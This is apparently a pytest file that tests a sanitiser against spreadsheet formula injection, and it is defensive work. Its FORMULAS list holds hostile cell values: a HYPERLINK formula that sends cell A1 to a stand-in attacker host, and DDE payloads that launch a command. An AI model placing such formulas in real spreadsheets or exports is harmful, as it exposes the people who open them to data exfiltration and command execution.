"""geo.tables: text that a spreadsheet would run as a formula gets a leading quote; numbers stay numbers."""

from __future__ import annotations

import pandas as pd
import pytest

from geo.tables import neutralise_cell, neutralise_frame

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",  # spreadsheets may drop leading spaces
    "＝1+1",  # full-width
    "-",
    "=",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_text_gets_a_leading_quote(value: str) -> None:
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["重庆齿轮箱", "ABB", "【400】", "a=b", "2025-12", "", "'=already quoted"])
def test_ordinary_text_is_unchanged(value: str) -> None:
    assert neutralise_cell(value) == value


@pytest.mark.parametrize("value", ["-5", "+3.5", "-0.25", "-1.2e3", " -7 ", -5, -3.5, 0, None, True])
def test_numbers_and_non_text_are_unchanged(value: object) -> None:
    assert neutralise_cell(value) == value


def test_a_frame_keeps_its_numeric_columns_and_neutralises_text_cells_and_headers() -> None:
    frame = pd.DataFrame(
        {
            "name": ['=HYPERLINK("http://x")', "正常", None],
            "value": [-5.0, 2.5, float("nan")],
            "count": [-1, 2, 3],
            "=bad header": ["a", "-b", "-4"],
        }
    )
    out = neutralise_frame(frame)
    assert list(out["name"])[:2] == ['\'=HYPERLINK("http://x")', "正常"] and pd.isna(out["name"].iloc[2])
    assert out["value"].dtype == frame["value"].dtype and list(out["value"])[:2] == [-5.0, 2.5]
    assert out["count"].tolist() == [-1, 2, 3] and out["count"].dtype == frame["count"].dtype
    assert list(out.columns) == ["name", "value", "count", "'=bad header"]
    assert out["'=bad header"].tolist() == ["a", "'-b", "-4"]
    assert frame["name"].iloc[0].startswith("=")  # the input is not changed
